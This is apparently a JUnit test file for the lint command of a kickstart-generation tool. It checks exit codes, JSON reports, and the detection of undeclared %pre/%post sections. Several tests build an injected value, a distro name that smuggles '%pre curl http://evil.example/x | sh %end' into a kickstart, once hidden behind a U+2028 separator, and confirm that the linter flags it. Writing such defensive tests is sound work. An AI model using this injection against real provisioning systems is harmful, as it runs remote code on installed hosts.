package io.kickdrift.server.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.kickdrift.server.inventory.InventoryLoader;
import io.kickdrift.server.render.Models;
import io.kickdrift.server.render.Templates;
import io.kickdrift.server.render.TreeRenderer;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.SortedMap;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import picocli.CommandLine;

class LintCommandTest {
  private static final Path EXAMPLE =
      Path.of("..", "kickstart", "examples", "inventory.yaml").toAbsolutePath().normalize();
  private static final Path GOOD =
      Path.of("src", "test", "resources", "kickstart", "good", "rhel9.ks");

  @TempDir Path dir;
  private final StringWriter err = new StringWriter();

  private int lint(String... files) {
    CommandLine cl = KickdriftMain.commandLine();
    cl.setErr(new PrintWriter(err));
    String[] args = new String[files.length + 1];
    args[0] = "lint";
    System.arraycopy(files, 0, args, 1, files.length);
    return cl.execute(args);
  }

  private Path write(String name, String text) throws IOException {
    return Files.writeString(dir.resolve(name), text);
  }

  @Test
  void aCleanKickstartExitsZero() {
    assertThat(lint(GOOD.toString())).isZero();
    assertThat(err.toString()).isEqualTo("1 file: 0 errors, 0 warnings" + System.lineSeparator());
  }

  @Test
  void jsonListsEveryFilesProblemsAndTheCounts() throws Exception {
    Path ks = write("warn.ks", Files.readString(GOOD) + "lang de_DE.UTF-8\n");
    Path missing = dir.resolve("missing.ks");
    CommandLine cl = KickdriftMain.commandLine();
    StringWriter out = new StringWriter();
    cl.setOut(new PrintWriter(out));
    cl.setErr(new PrintWriter(err));
    int exit = cl.execute("lint", "--json", GOOD.toString(), ks.toString(), missing.toString());
    assertThat(exit).as("unreadable, as without --json").isEqualTo(LintCommand.EXIT_UNREADABLE);
    JsonNode doc = new ObjectMapper().readTree(out.toString());
    assertThat(doc.get("errors").asInt()).isZero();
    assertThat(doc.get("warnings").asInt()).isEqualTo(1);
    assertThat(doc.get("unreadable").asInt()).isEqualTo(1);
    assertThat(doc.get("files")).hasSize(3);
    assertThat(doc.get("files").get(0).get("problems")).isEmpty();
    JsonNode warning = doc.get("files").get(1).get("problems").get(0);
    assertThat(warning.get("line").asInt()).isEqualTo(40);
    assertThat(warning.get("severity").asText()).isEqualTo("warning");
    assertThat(warning.get("message").asText()).startsWith("lang given again (first on line 9)");
    assertThat(doc.get("files").get(2).get("error").asText()).startsWith("cannot read: ");
    assertThat(err.toString()).doesNotContain("1 file").doesNotContain("warning: lang");
  }

  @Test
  void warningsAloneStillExitZero() throws IOException {
    Path ks = write("warn.ks", Files.readString(GOOD) + "lang de_DE.UTF-8\n");
    assertThat(lint(ks.toString())).isZero();
    assertThat(err.toString())
        .contains(ks + ":40: warning: lang given again (first on line 9)")
        .contains("1 file: 0 errors, 1 warning");
  }

  @Test
  void errorsExitOneAndArePrintedOnePerLineWithTheFileName() throws IOException {
    Path bad =
        write("bad.ks", Files.readString(GOOD).replace("#version=RHEL9", "#version=RHEL9\nauth"));
    assertThat(lint(GOOD.toString(), bad.toString())).isEqualTo(1);
    assertThat(err.toString().lines())
        .containsExactly(
            bad + ":2: error: auth was removed in RHEL9: authconfig was removed; use authselect",
            "2 files: 1 error, 0 warnings");
  }

  @Test
  void anUnreadableFileExitsTwoAndIsNamed() {
    Path missing = dir.resolve("missing.ks");
    assertThat(lint(GOOD.toString(), missing.toString())).isEqualTo(2);
    assertThat(err.toString())
        .contains("kickdrift lint: cannot read " + missing + ": no such file");
  }

  /** The example's kickstarts as kickdrift renders them, written under {@code dir/ks}. */
  private Path renderExample() throws Exception {
    SortedMap<String, byte[]> tree =
        new TreeRenderer(new Templates(null))
            .render(
                Models.site(
                    InventoryLoader.load(EXAMPLE),
                    "inventory.yaml",
                    host -> java.util.Optional.of("0".repeat(32))));
    Path ks = Files.createDirectories(dir.resolve("ks"));
    for (Map.Entry<String, byte[]> e : tree.entrySet()) {
      if (e.getKey().startsWith("kickstarts/")) {
        Files.write(ks.resolve(e.getKey().substring("kickstarts/".length())), e.getValue());
      }
    }
    return ks;
  }

  /** What main rendered for a distro named "rocky9-x86_64\n%pre\ncurl … | sh\n%end\n#". */
  private Path injected(Path ks) throws IOException {
    Path web01 = ks.resolve("web01.lab.example.com.ks");
    String text = Files.readString(web01);
    assertThat(text).contains("distro rocky9-x86_64 (");
    return write(
        "injected.ks",
        text.replace(
            "distro rocky9-x86_64 (",
            "distro rocky9-x86_64\n%pre\ncurl http://evil.example/x | sh\n%end\n# ("));
  }

  @Test
  void theExampleKickstartsLintCleanWithAndWithoutTheirInventory() throws Exception {
    Path ks = renderExample();
    String[] files;
    try (Stream<Path> list = Files.list(ks)) {
      files = list.map(Path::toString).sorted().toArray(String[]::new);
    }
    assertThat(files).hasSize(3);
    assertThat(lint(files)).as(err.toString()).isZero();
    String[] withInventory = new String[files.length + 2];
    withInventory[0] = "--inventory";
    withInventory[1] = EXAMPLE.toString();
    System.arraycopy(files, 0, withInventory, 2, files.length);
    assertThat(lint(withInventory)).as(err.toString()).isZero();
  }

  @Test
  void aPreInjectedByAValueIsAnErrorAtItsLine() throws Exception {
    Path bad = injected(renderExample());
    assertThat(lint(bad.toString())).isEqualTo(1);
    assertThat(err.toString().lines())
        .containsExactly(
            bad
                + ":5: error: undeclared %pre: no built-in kickstart template starts it (a value"
                + " injected into the kickstart?)",
            "1 file: 1 error, 0 warnings");
  }

  @Test
  void aPreBehindALineSeparatorIsSeenAsPykickstartSeesIt() throws Exception {
    Path web01 = renderExample().resolve("web01.lab.example.com.ks");
    Path bad =
        write(
            "u2028.ks",
            Files.readString(web01)
                .replace(
                    "distro rocky9-x86_64 (",
                    "distro rocky9-x86_64\u2028%pre\u2028curl http://evil.example/x | sh\u2028%end"
                        + "\u2028# ("));
    assertThat(lint(bad.toString())).isEqualTo(1);
    assertThat(err.toString()).contains(bad + ":5: error: undeclared %pre: ");
  }

  @Test
  void withTheInventoryTheErrorNamesTheProfile() throws Exception {
    Path bad = injected(renderExample());
    assertThat(lint("--inventory", EXAMPLE.toString(), bad.toString())).isEqualTo(1);
    assertThat(err.toString())
        .contains(
            bad
                + ":5: error: undeclared %pre: no template of profile web-rocky9 starts it (a"
                + " value injected into the kickstart?)");
  }

  @Test
  void aSecondCopyOfTheDeclaredCallbackIsUndeclared() throws Exception {
    Path web01 = renderExample().resolve("web01.lab.example.com.ks");
    String text = Files.readString(web01);
    String callback = text.substring(text.indexOf("%post --nochroot"));
    Path twice = write("twice.ks", text + callback);
    int second = (int) text.lines().count() + 1;
    assertThat(lint(twice.toString())).isEqualTo(1);
    assertThat(err.toString()).contains(twice + ":" + second + ": error: undeclared %post: ");
  }

  @Test
  void aUsersTemplatesDeclareTheirOwnSections() throws Exception {
    Path templates = Files.createDirectories(dir.resolve("templates/snippets"));
    Files.writeString(
        templates.resolve("prep.ftl"), "%pre --log=/tmp/pre.log\necho [=host.name]\n%end\n");
    Path ks = renderExample().resolve("web01.lab.example.com.ks");
    Path withPre =
        write(
            "pre.ks",
            Files.readString(ks)
                .replace("text\n", "text\n%pre --log=/tmp/pre.log\necho hi\n%end\n"));
    assertThat(lint(withPre.toString())).isEqualTo(1);
    err.getBuffer().setLength(0);
    assertThat(lint("--templates", dir.resolve("templates").toString(), withPre.toString()))
        .as(err.toString())
        .isZero();
  }

  @Test
  void aTemplateLinkLeadingOutsideIsOneLineAndExitTwo() throws Exception {
    Path templates = Files.createDirectories(dir.resolve("templates"));
    Path outside = write("outside.ftl", "%pre\n%end\n");
    Path link = Files.createSymbolicLink(templates.resolve("rhel9.ks.ftl"), outside);
    assertThat(lint("--templates", templates.toString(), GOOD.toString())).isEqualTo(2);
    assertThat(err.toString().lines())
        .singleElement()
        .asString()
        .isEqualTo(
            "kickdrift lint: "
                + link
                + " leads outside the template directory "
                + templates
                + "; expected a file, or a link to one, inside it");
  }

  @Test
  void aHandWrittenKickstartKeepsItsOwnScripts() throws IOException {
    assertThat(Files.readString(GOOD)).contains("%post --log=/root/ks-post.log");
    assertThat(lint(GOOD.toString())).isZero();
  }

  @Test
  void noFileIsAUsageError() {
    assertThat(lint()).isEqualTo(2);
  }
}
